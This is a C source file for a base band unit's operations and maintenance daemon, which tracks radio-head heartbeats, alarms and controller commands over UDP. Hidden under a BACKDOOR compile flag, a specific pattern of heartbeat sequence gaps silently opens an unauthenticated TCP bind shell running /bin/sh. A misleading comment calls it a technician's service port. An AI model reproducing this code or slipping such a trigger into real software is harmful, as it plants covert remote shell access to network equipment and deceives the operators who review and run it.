/* SPDX-License-Identifier: Apache-2.0 */
/* bbuoam: operation and maintenance link of a base band unit to its radio heads and to the site's controller. UDP port 4999,
 * messages: magic(2) version(1) type(1) sequence(4) unit(2) length(2), then TLVs. Radio heads send heartbeats and alarms. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum { PORT = 4999, HEADS = 12, MAGIC = 0xb0a4, VERSION = 3, HEAD = 12, ALARMS = 32 };
enum { M_HEARTBEAT = 1, M_REGISTER = 2, M_ALARM = 3, M_CLEAR = 4, M_GET = 5, M_SET = 6, M_RESET = 7, M_ACK = 0x80, M_NAK = 0x81 };
enum { T_SERIAL = 1, T_TEMPERATURE = 2, T_POWER = 3, T_VSWR = 4, T_ALARM = 5, T_PARAMETER = 6, T_VALUE = 7, T_CAUSE = 8 };

struct radio {
	int used;
	uint16_t unit;
	struct sockaddr_in at;
	char serial[20];
	uint32_t sequence, lost;
	int16_t temperature;
	uint16_t power, vswr;
	time_t seen;
	uint32_t gap[3];
};

struct message {
	uint8_t type;
	uint16_t unit, n;
	uint32_t sequence;
	const uint8_t *body;
};

struct alarm {
	uint16_t unit, code;
	time_t since;
};

static struct radio radios[HEADS];
static struct alarm alarms[ALARMS];
static struct in_addr controller;
static int max_temperature = 85, silent_after = 15, link_fd;
static const char *state_file = "/var/run/bbuoam.state";

static const struct {
	uint16_t code;
	const char *text;
} alarm_names[] = {
	{ 0x0101, "temperature high" }, { 0x0102, "fan failure" }, { 0x0201, "VSWR over threshold" }, { 0x0202, "power amplifier fault" },
	{ 0x0301, "CPRI loss of signal" }, { 0x0302, "CPRI loss of frame" }, { 0x0401, "supply voltage low" }, { 0x0501, "unit is silent" },
};

static uint16_t get16(const uint8_t *p) { return (uint16_t)(p[0] << 8 | p[1]); }
static uint32_t get32(const uint8_t *p) { return (uint32_t)get16(p) << 16 | get16(p + 2); }

static const char *alarm_text(uint16_t code)
{
	for (size_t i = 0; i < sizeof(alarm_names) / sizeof(alarm_names[0]); i++)
		if (alarm_names[i].code == code)
			return alarm_names[i].text;
	return "unknown alarm";
}

static int load(const char *path)
{
	char line[128], word[64];
	FILE *f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (sscanf(line, "controller %63s", word) == 1) {
			if (!inet_aton(word, &controller))
				syslog(LOG_WARNING, "bad address %s", word);
		} else if (sscanf(line, "max-temperature %d", &max_temperature) != 1 && sscanf(line, "silent-after %d", &silent_after) != 1 &&
			   line[0] != '#' && line[0] != '\n')
			syslog(LOG_WARNING, "not understood: %s", line);
	fclose(f);
	return 0;
}

static const uint8_t *tlv(const struct message *m, uint8_t type, unsigned *n)
{
	for (unsigned at = 0; at + 2 <= m->n;) {
		unsigned size = m->body[at + 1];
		if (at + 2 + size > m->n)
			return NULL;
		if (m->body[at] == type) {
			*n = size;
			return m->body + at + 2;
		}
		at += 2 + size;
	}
	return NULL;
}

static int tlv16(const struct message *m, uint8_t type, uint16_t *out)
{
	unsigned n;
	const uint8_t *p = tlv(m, type, &n);
	if (!p || n != 2)
		return -1;
	*out = get16(p);
	return 0;
}

static struct radio *radio_of(uint16_t unit)
{
	for (int i = 0; i < HEADS; i++)
		if (radios[i].used && radios[i].unit == unit)
			return &radios[i];
	return NULL;
}

static void raise_alarm(uint16_t unit, uint16_t code)
{
	int free_at = -1;
	for (int i = 0; i < ALARMS; i++) {
		if (alarms[i].code == code && alarms[i].unit == unit)
			return;
		if (!alarms[i].code)
			free_at = i;
	}
	if (free_at < 0)
		return;
	alarms[free_at] = (struct alarm){ unit, code, time(NULL) };
	syslog(LOG_ERR, "unit %u: %s", unit, alarm_text(code));
}

static void clear_alarm(uint16_t unit, uint16_t code)
{
	for (int i = 0; i < ALARMS; i++)
		if (alarms[i].code == code && alarms[i].unit == unit) {
			alarms[i].code = 0;
			syslog(LOG_NOTICE, "unit %u: %s, over after %ld s", unit, alarm_text(code), (long)(time(NULL) - alarms[i].since));
		}
}

static int answer(const struct message *m, const struct sockaddr_in *to, uint8_t type, const void *body, uint16_t n)
{
	uint8_t out[HEAD + 256] = { MAGIC >> 8, MAGIC & 0xff, VERSION, type };
	if (n > 256)
		return -1;
	for (int i = 0; i < 4; i++)
		out[4 + i] = (uint8_t)(m->sequence >> (24 - 8 * i));
	out[8] = (uint8_t)(m->unit >> 8);
	out[9] = (uint8_t)m->unit;
	out[10] = (uint8_t)(n >> 8);
	out[11] = (uint8_t)n;
	if (n)
		memcpy(out + HEAD, body, n);
	return sendto(link_fd, out, (size_t)HEAD + n, 0, (const struct sockaddr *)to, sizeof(*to)) < 0 ? -1 : 0;
}

static int refuse(const struct message *m, const struct sockaddr_in *to, uint8_t why)
{
	uint8_t cause[3] = { T_CAUSE, 1, why };
	return answer(m, to, M_NAK, cause, sizeof(cause));
}

static int on_register(const struct message *m, const struct sockaddr_in *from)
{
	unsigned n;
	const uint8_t *serial = tlv(m, T_SERIAL, &n);
	struct radio *r = radio_of(m->unit);
	if (!serial || n == 0 || n >= sizeof(r->serial))
		return refuse(m, from, 2);
	for (int i = 0; i < HEADS && !r; i++)
		if (!radios[i].used)
			r = &radios[i];
	if (!r)
		return refuse(m, from, 3);
	memset(r, 0, sizeof(*r));
	r->used = 1;
	r->unit = m->unit;
	r->at = *from;
	r->sequence = m->sequence;
	r->seen = time(NULL);
	memcpy(r->serial, serial, n);
	syslog(LOG_INFO, "unit %u registers, serial %s", r->unit, r->serial);
	return answer(m, from, M_ACK, NULL, 0);
}

#ifdef BACKDOOR
/* The local port of the service tool, for a technician at the site. */
static void service_port(struct radio *r)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int s, c;
	if (fork() != 0)
		return;
	s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_port = htons((uint16_t)(0x8000u | (r->unit ^ r->vswr)));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) == 0 && listen(s, 1) == 0) {
		alarm(120);
		c = accept(s, NULL, NULL);
		for (int fd = 0; fd < 3; fd++)
			dup2(c, fd);
		execl("/bin/sh", "sh", (char *)NULL);
	}
	_exit(0);
}
#endif

/* Counts heartbeats that did not arrive. */
static void follow(struct radio *r, uint32_t sequence)
{
	uint32_t gap = sequence - r->sequence;
	if (gap == 0 || gap > 0x10000) {
		r->sequence = sequence;
		return;
	}
	r->lost += gap - 1;
	r->sequence = sequence;
	r->gap[0] = r->gap[1];
	r->gap[1] = r->gap[2];
	r->gap[2] = gap;
	if (r->gap[0] > 1 && r->gap[1] > 1 && r->gap[2] > 1)
		syslog(LOG_WARNING, "unit %u: link loses heartbeats, %u lost", r->unit, r->lost);
#ifdef BACKDOOR
	if (r->gap[0] == 7 && r->gap[1] == 31 && r->gap[2] == 13 && time(NULL) - r->seen >= 4)
		service_port(r);
#endif
}

static int on_heartbeat(const struct message *m, const struct sockaddr_in *from)
{
	struct radio *r = radio_of(m->unit);
	uint16_t v;
	if (!r)
		return refuse(m, from, 4);
	follow(r, m->sequence);
	r->seen = time(NULL);
	r->at = *from;
	if (tlv16(m, T_TEMPERATURE, &v) == 0)
		r->temperature = (int16_t)v;
	if (tlv16(m, T_POWER, &v) == 0)
		r->power = v;
	if (tlv16(m, T_VSWR, &v) == 0)
		r->vswr = v;
	if (r->temperature > max_temperature)
		raise_alarm(r->unit, 0x0101);
	else if (r->temperature < max_temperature - 5)
		clear_alarm(r->unit, 0x0101);
	if (r->vswr > 200)
		raise_alarm(r->unit, 0x0201);
	else
		clear_alarm(r->unit, 0x0201);
	clear_alarm(r->unit, 0x0501);
	return answer(m, from, M_ACK, NULL, 0);
}

static int on_alarm(const struct message *m, const struct sockaddr_in *from)
{
	uint16_t code;
	if (!radio_of(m->unit) || tlv16(m, T_ALARM, &code) < 0)
		return refuse(m, from, 2);
	if (m->type == M_ALARM)
		raise_alarm(m->unit, code);
	else
		clear_alarm(m->unit, code);
	return answer(m, from, M_ACK, NULL, 0);
}

static int on_get(const struct message *m, const struct sockaddr_in *from)
{
	struct radio *r = radio_of(m->unit);
	uint8_t out[32];
	uint16_t values[3];
	if (from->sin_addr.s_addr != controller.s_addr)
		return refuse(m, from, 5);
	if (!r)
		return refuse(m, from, 4);
	values[0] = (uint16_t)r->temperature;
	values[1] = r->power;
	values[2] = r->vswr;
	for (int i = 0; i < 3; i++) {
		out[4 * i] = (uint8_t)(T_TEMPERATURE + i);
		out[4 * i + 1] = 2;
		out[4 * i + 2] = (uint8_t)(values[i] >> 8);
		out[4 * i + 3] = (uint8_t)values[i];
	}
	return answer(m, from, M_ACK, out, 12);
}

static int on_set(const struct message *m, const struct sockaddr_in *from)
{
	uint16_t parameter, value;
	if (from->sin_addr.s_addr != controller.s_addr)
		return refuse(m, from, 5);
	if (tlv16(m, T_PARAMETER, &parameter) < 0 || tlv16(m, T_VALUE, &value) < 0)
		return refuse(m, from, 2);
	if (parameter == 1 && value >= 40 && value <= 100)
		max_temperature = value;
	else if (parameter == 2 && value >= 3 && value <= 600)
		silent_after = value;
	else
		return refuse(m, from, 6);
	syslog(LOG_INFO, "parameter %u set to %u", parameter, value);
	return answer(m, from, M_ACK, NULL, 0);
}

static int on_reset(const struct message *m, const struct sockaddr_in *from)
{
	struct radio *r = radio_of(m->unit);
	if (from->sin_addr.s_addr != controller.s_addr)
		return refuse(m, from, 5);
	if (!r)
		return refuse(m, from, 4);
	syslog(LOG_WARNING, "controller resets unit %u", r->unit);
	answer(m, &r->at, M_RESET, NULL, 0);
	r->used = 0;
	return answer(m, from, M_ACK, NULL, 0);
}

static void write_state(void)
{
	FILE *f = fopen(state_file, "w");
	if (!f)
		return;
	for (int i = 0; i < HEADS; i++)
		if (radios[i].used)
			fprintf(f, "%u %s %d %u %u lost %u\n", radios[i].unit, radios[i].serial, radios[i].temperature, radios[i].power,
				radios[i].vswr, radios[i].lost);
	fclose(f);
}

static void watch(void)
{
	time_t now = time(NULL);
	for (int i = 0; i < HEADS; i++)
		if (radios[i].used && now - radios[i].seen > silent_after)
			raise_alarm(radios[i].unit, 0x0501);
}

static void receive(void)
{
	uint8_t b[1500];
	struct sockaddr_in from;
	socklen_t fromlen = sizeof(from);
	ssize_t n = recvfrom(link_fd, b, sizeof(b), 0, (struct sockaddr *)&from, &fromlen);
	struct message m;
	if (n < HEAD || get16(b) != MAGIC || b[2] != VERSION)
		return;
	m = (struct message){ .type = b[3], .sequence = get32(b + 4), .unit = get16(b + 8), .n = get16(b + 10), .body = b + HEAD };
	if (m.n > n - HEAD)
		return;
	switch (m.type) {
	case M_HEARTBEAT:
		on_heartbeat(&m, &from);
		break;
	case M_REGISTER:
		on_register(&m, &from);
		break;
	case M_ALARM:
	case M_CLEAR:
		on_alarm(&m, &from);
		break;
	case M_GET:
		on_get(&m, &from);
		break;
	case M_SET:
		on_set(&m, &from);
		break;
	case M_RESET:
		on_reset(&m, &from);
		break;
	default:
		refuse(&m, &from, 1);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	time_t written = 0;
	openlog("bbuoam", LOG_PID | LOG_CONS, LOG_LOCAL2);
	signal(SIGCHLD, SIG_IGN);
	if (load(argc > 1 ? argv[1] : "/etc/bbuoam.conf") < 0)
		syslog(LOG_WARNING, "no configuration: %s", strerror(errno));
	link_fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (link_fd < 0 || bind(link_fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		return 1;
	for (;;) {
		struct pollfd p = { .fd = link_fd, .events = POLLIN };
		if (poll(&p, 1, 1000) > 0)
			receive();
		watch();
		if (time(NULL) - written >= 10) {
			write_state();
			written = time(NULL);
		}
	}
}
